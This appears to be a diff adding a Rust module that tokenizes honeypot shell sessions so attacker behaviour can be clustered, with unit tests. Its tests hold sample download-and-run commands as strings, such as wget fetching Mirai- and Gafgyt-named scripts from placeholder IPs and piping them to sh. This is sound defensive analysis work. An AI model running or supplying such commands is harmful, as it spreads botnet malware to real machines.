@@ -1,0 +1,115 @@
+//! Command tokenization for clustering (paper §6).
+//!
+//! Sessions are compared as *token sequences*: `"mkdir /tmp;cd /tmp"` →
+//! `["mkdir", "/tmp", "cd", "/tmp"]`. Treating each token as a unit makes
+//! the distance robust to attacker churn in IPs, filenames and directories
+//! — exactly the paper's rationale for token-level DLD.
+
+/// Splits a session's command text into tokens: separators are whitespace
+/// and the shell operators `;`, `|`, `&`, `>`, `<` (operators are dropped,
+/// as in the paper's example).
+pub fn tokenize(command_text: &str) -> Vec<String> {
+    command_text
+        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '>' | '<'))
+        .filter(|t| !t.is_empty())
+        .map(|t| t.trim_matches(|c| c == '"' || c == '\'').to_string())
+        .filter(|t| !t.is_empty())
+        .collect()
+}
+
+/// A canonicalised token sequence used as a clustering signature: tokens
+/// that are pure "churn" (IPs, URLs, long hex, random-looking names) are
+/// replaced by placeholders so that identical *behaviour* dedupes to the
+/// same signature. This is our scaling substitution for the paper's
+/// (unstated) sampling; the ablation bench quantifies its effect.
+pub fn signature(command_text: &str) -> Vec<String> {
+    tokenize(command_text)
+        .into_iter()
+        .map(|t| canonicalize(&t))
+        .collect()
+}
+
+fn canonicalize(tok: &str) -> String {
+    if tok.contains("://") || tok.starts_with("www.") {
+        return "<URL>".to_string();
+    }
+    if looks_like_ip(tok) {
+        return "<IP>".to_string();
+    }
+    if tok.len() >= 8 && tok.chars().all(|c| c.is_ascii_hexdigit()) {
+        return "<HEX>".to_string();
+    }
+    // root:<pw> lockout payloads.
+    if let Some(rest) = tok.strip_prefix("root:") {
+        if rest.len() >= 8 {
+            return "root:<PW>".to_string();
+        }
+    }
+    // Random-looking filename/token: long mixed-case alphanumerics that are
+    // not a known command word.
+    if tok.len() >= 5
+        && tok.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-' || c == '_')
+        && tok.chars().any(|c| c.is_ascii_digit())
+        && tok.chars().any(|c| c.is_ascii_alphabetic())
+    {
+        return "<NAME>".to_string();
+    }
+    tok.to_string()
+}
+
+fn looks_like_ip(tok: &str) -> bool {
+    let t = tok.trim_end_matches(|c: char| c == '/' || c == ':');
+    netsim::Ipv4Addr::parse(t).is_some()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn paper_example() {
+        assert_eq!(tokenize("mkdir /tmp;cd /tmp"), vec!["mkdir", "/tmp", "cd", "/tmp"]);
+    }
+
+    #[test]
+    fn operators_are_separators() {
+        assert_eq!(
+            tokenize("wget http://a/b && sh b | grep x > out"),
+            vec!["wget", "http://a/b", "sh", "b", "grep", "x", "out"]
+        );
+    }
+
+    #[test]
+    fn quotes_are_stripped() {
+        assert_eq!(tokenize(r#"echo "ssh key""#), vec!["echo", "ssh", "key"]);
+    }
+
+    #[test]
+    fn empty_input() {
+        assert!(tokenize("").is_empty());
+        assert!(tokenize(" ;; | ").is_empty());
+    }
+
+    #[test]
+    fn signature_canonicalises_churn() {
+        let a = signature("cd /tmp; wget http://198.51.100.2/mirai-17.sh; sh mirai-17.sh");
+        let b = signature("cd /tmp; wget http://203.0.113.9/gafgyt-55.sh; sh gafgyt-55.sh");
+        assert_eq!(a, b, "same behaviour must share a signature");
+        assert_eq!(a, vec!["cd", "/tmp", "wget", "<URL>", "sh", "<NAME>"]);
+    }
+
+    #[test]
+    fn signature_keeps_command_words() {
+        let s = signature("uname -s -v -n -r -m");
+        assert_eq!(s, vec!["uname", "-s", "-v", "-n", "-r", "-m"]);
+    }
+
+    #[test]
+    fn ip_and_hex_placeholders() {
+        assert_eq!(canonicalize("203.0.113.7"), "<IP>");
+        assert_eq!(canonicalize("deadbeefcafe1234"), "<HEX>");
+        assert_eq!(canonicalize("root:a1b2c3d4e5f6"), "root:<PW>");
+        assert_eq!(canonicalize("cd"), "cd");
+        assert_eq!(canonicalize("/bin/busybox"), "/bin/busybox");
+    }
+}
